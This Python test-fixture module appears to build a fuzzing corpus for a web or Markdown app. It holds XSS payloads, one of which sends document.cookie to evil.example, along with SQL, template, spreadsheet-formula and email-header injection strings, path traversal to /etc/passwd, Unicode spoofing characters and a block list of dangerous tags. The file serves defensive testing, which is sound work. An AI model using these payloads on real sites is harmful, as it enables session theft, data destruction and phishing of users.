"""A corpus of hostile and careless text: what attackers and tired colleagues type into forms.

Built from payload families, each also wrapped the ways text reaches us (inside Markdown links,
code, quotes, with invisible and right-to-left characters), so every family is tried in every
context. `CORPUS` has well over 300 strings; `HUGE` is a 1 MB body.
"""

from __future__ import annotations

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "\"><script>alert(document.domain)</script>",
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<form action=https://evil.example><input name=p><button>Sign in again</button></form>",
    "<details open ontoggle=alert(1)>",
]
EVENTS = [
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert('xss')\">",
    "<IMG SRC=x ONERROR=alert(String.fromCharCode(88,83,83))>",
    "<img src=https://evil.example/pixel.png>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover me</div>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=# onclick=alert(1)>click</a>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
]
SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>XSS</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
]
LINKS = [
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me](javascript&#58;alert(1))",
    "[click me](  javascript:alert(1)  )",
    "[click me](java\tscript:alert(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click me](data:text/html,<script>alert(1)</script>)",
    "[click me](vbscript:msgbox(1))",
    "[click me](file:///etc/passwd)",
    "[ok](https://example.com \"title\" onmouseover=alert(1))",
    "<javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">link</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>link</a>",
    "![tracker](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[ref]: javascript:alert(1)\n\n[click][ref]",
    "[ref]: https://evil.example/\n\n![img][ref]",
    "https://evil.example/autolink",
    "<https://evil.example/autolink>",
    "[a](https://example.com)[b](javascript:alert(1))",
]
INJECTION = [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "\"; DROP TABLE questions; --",
    "1; DELETE FROM votes",
    "admin'--",
    "' UNION SELECT password_hash FROM users --",
    "%' OR 1=1 --",
    "\\'; SELECT pg_sleep(5); --",
    "1) OR (1=1",
    "NEAR(a b) OR * AND \"unterminated",
    "title:* OR body:*",
    "\"\"\"",
    "-- comment",
    "/* */ OR 1=1",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "$$ \\begin{x} $$",
    "$\\href{javascript:alert(1)}{click}$",
    "../../../../etc/passwd",
    "%00%0d%0a",
]
UNICODE = [
    "\u200b\u200b\u200b",  # zero-width spaces only
    "ad\u200bmin",
    "\u202eevil.exe\u202c",  # right-to-left override
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "مرحبا بالعالم — نص من اليمين إلى اليسار",
    "שלום עולם",
    "これは日本語のテキストです",
    "药品注册申请",
    "🧪🧬💊🔬 emoji everywhere 👩‍🔬👨🏽‍🔬",
    "🏳️‍🌈" * 40,
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",  # stacked combining marks
    "Z̴̡̛̖͉̬̯͓̤̖̪̯̳̓̀̃̍̋͊͠a̵̢̨̧̟̭̬̞̤̝̟̓̀̿̈́l̶͙̹̦̞̣̘̈̆͂̏g̷̢̛͍͓̥̖̱̓̈́ő̷̡̧̫̜̩̳͎̫",
    "\ufeffbom at start",
    "line\u2028separator\u2029paragraph",
    "\x00null byte",
    "tab\tand\rcarriage\nreturns",
    "\x1b[31mterminal colours\x1b[0m",
    "\ud7ff\ue000\ufffd",
    "ﷺ ﷽",
]
BLANK = ["", " ", "   ", "\n\n\n", "\t\t", "\u00a0\u00a0", "\u3000", " \n \t \r\n "]
MARKDOWN = [
    "# " * 200,
    "> " * 300 + "deep quote",
    "*" * 5000,
    "[" * 3000 + "]" * 3000,
    "```\n" + "code " * 500 + "\n```",
    "| a | b |\n|---|---|\n" + "| x | y |\n" * 300,
    "<!-- hidden comment --><b>bold?</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</div>",
    ":material/warning: fake icon",
    "@everyone @admin @ada",
]
# What reaches the short, structured fields: usernames, e-mail addresses, numbers and dates.
FIELDS = [
    "ada", "ADA", " ada.okafor ", "ada\n", "ada\x00", "ad", "a" * 65, "-ada", "ada..okafor",
    "ada@example.com", " ada@example.com ", "ada@example.com\n", "ada@example.com\x00",
    "ada@example.com\nBcc: everyone@example.com", "ada@example.com%0aBcc:everyone@example.com",
    "<script>alert(1)</script>@evil.example", "\"><img/src=x/onerror=alert(1)>@x.io",
    "javascript:alert(1)//@example.com", "a" * 300 + "@example.com", "ada@例え.テスト",
    "ada+tag@example.com", "@example.com", "ada@", "ada@@example.com", "mailto:ada@example.com",
    "2024-02-30", "2024-13-01", "9999-12-31", "0001-01-01", "2024-01-01T25:00:00",
    "2024-01-01 00:00:00", "2024-W01-1", "1e400", "NaN", "inf", "-1", "１２", "²", "0x10",
    "3.5", "1_0", "99999999999999999999",
]
BASE = SCRIPTS + EVENTS + SVG + LINKS + INJECTION + UNICODE + BLANK + MARKDOWN + FIELDS

# The same payloads reach us in context: a question about them, a quote, a link text, code.
WRAPPERS = [
    "{}",
    "Our SOP review found this in a comment: {}",
    "> {}",
    "[see the guidance]({})",
    "\u200b{}\u202e",
]
_ACTIVE = SCRIPTS + EVENTS + SVG + LINKS
CORPUS: list[str] = list(dict.fromkeys(
    BASE + [w.format(p) for w in WRAPPERS[1:] for p in _ACTIVE]))

# A few of every family, plain and in every wrapping, with all the blank and structured ones:
# for inputs that take a choice, a date or a number, where the whole corpus would only repeat
# the same refusal.
SAMPLE: list[str] = list(dict.fromkeys(
    [t for family in (SCRIPTS, EVENTS, SVG, LINKS, INJECTION, UNICODE, MARKDOWN)
     for t in family[::4]]
    + [w.format(p) for w in WRAPPERS[1:] for p in _ACTIVE[::8]] + BLANK + FIELDS))

HUGE = ("A 1 MB body pasted from a validation report. " * 24_000)[:1_000_000]
LONG_WORD = "x" * 100_000

# What must never survive into rendered Markdown (case-insensitive).
DANGEROUS = ("<script", "javascript:", "vbscript:", "data:text", "data:image", "onerror=",
             "onload=", "<iframe", "<svg", "<img", "<object", "<embed", "<style", "<base",
             "<meta", "<link", "<form")
